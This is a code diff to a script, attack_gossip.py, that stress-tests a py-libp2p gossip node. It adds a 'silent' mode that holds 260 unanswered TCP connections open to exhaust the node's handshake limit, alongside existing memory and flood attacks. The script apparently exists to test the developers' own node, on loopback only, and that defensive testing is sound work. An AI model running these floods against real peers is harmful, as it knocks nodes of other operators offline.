@@ -6,7 +6,7 @@ in docs/gossip.md; loopback only, never aim it at a node that is not yours.
     python scripts/attack_gossip.py mss-prefix ADDR [--connections 8] [--mib 64]
     python scripts/attack_gossip.py streams ADDR [--streams 128] [--mib 16] [--kind KIND]
     python scripts/attack_gossip.py invalid-flood ADDR [--campaign NAME] [--count 500]
-    python scripts/attack_gossip.py silent ADDR [--sockets 260] [--hold 30]
+    python scripts/attack_gossip.py silent ADDR [--sockets 260] [--hold 30] [--pause 0.2]
     python scripts/attack_gossip.py measure ATTACK [its options]   # a fresh node's RSS under it
 
 Each prints one line per stage (`started ...`, `done ...`) so that a caller can follow it.
@@ -140,7 +140,8 @@ def invalid_flood(addr: str, campaign: str, count: int) -> None:
             messages = []
             for n in range(count):
                 msg = rpc_pb2.Message(data=b"not a fact %d" % n, topicIDs=[topic],
-                                      from_id=pubsub.my_id.to_bytes(), seqno=os.urandom(8))  # fmt: skip
+                                      from_id=pubsub.my_id.to_bytes(),
+                                      seqno=os.urandom(8))  # fmt: skip
                 signed = PUBSUB_SIGNING_PREFIX.encode() + msg.SerializeToString()
                 msg.signature = key.private_key.sign(signed)
                 msg.key = key.public_key.serialize()
@@ -258,6 +259,40 @@ def mss_prefix(addr: str, connections: int, mib: int) -> None:
     _say("done", sum(sent), "MiB sent")
 
 
+def silent(addr: str, sockets: int, hold: float, pause: float) -> None:
+    """`sockets` TCP connections that never say a word, each reopened as soon as the node closes
+    it, for `hold` seconds: py-libp2p lets 250 inbound connections wait 10 s in their handshake."""
+    target = _tcp_target(addr)
+    end = time.monotonic() + hold
+    opened, closed = [0], [0]
+
+    def keep_one() -> None:
+        while time.monotonic() < end:
+            try:
+                with socket.create_connection(target, timeout=5) as sock:
+                    opened[0] += 1
+                    sock.settimeout(max(0.1, end - time.monotonic()))
+                    try:
+                        while sock.recv(4096):  # the node's multistream header: never answered
+                            pass
+                        closed[0] += 1  # the node gave up on us: come straight back
+                    except TimeoutError:
+                        pass
+                    except OSError:
+                        closed[0] += 1
+            except OSError:
+                pass
+            time.sleep(pause)  # then open it again
+
+    threads = [threading.Thread(target=keep_one, daemon=True) for _ in range(sockets)]
+    for thread in threads:
+        thread.start()
+    _say("started", sockets)
+    for thread in threads:
+        thread.join()
+    _say("done", opened[0], "opened,", closed[0], "closed by the node")
+
+
 def _uvarint(value: int) -> bytes:
     out = bytearray()
     while True:
@@ -321,13 +356,18 @@ if __name__ == "__main__":
         measure(sys.argv[2:])
         raise SystemExit(0)
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
-    parser.add_argument("attack", choices=["junk", "mss-prefix", "streams", "invalid-flood"])
+    parser.add_argument(
+        "attack", choices=["junk", "mss-prefix", "streams", "invalid-flood", "silent"]
+    )
     parser.add_argument("addr")
     parser.add_argument("--senders", type=int, default=5)
     parser.add_argument("--connections", type=int, default=8)
     parser.add_argument("--mib", type=int, default=64)
     parser.add_argument("--campaign", default="attack")
     parser.add_argument("--count", type=int, default=500)
+    parser.add_argument("--sockets", type=int, default=260)
+    parser.add_argument("--hold", type=float, default=30.0)
+    parser.add_argument("--pause", type=float, default=0.2)
     parser.add_argument("--streams", type=int, default=128)
     parser.add_argument("--kind", choices=["frames", "open", "window"], default="frames")
     args = parser.parse_args()
@@ -335,6 +375,8 @@ if __name__ == "__main__":
         junk(args.addr, args.senders)
     elif args.attack == "mss-prefix":
         mss_prefix(args.addr, args.connections, args.mib)
+    elif args.attack == "silent":
+        silent(args.addr, args.sockets, args.hold, args.pause)
     elif args.attack == "invalid-flood":
         invalid_flood(args.addr, args.campaign, args.count)
     elif args.attack == "streams":
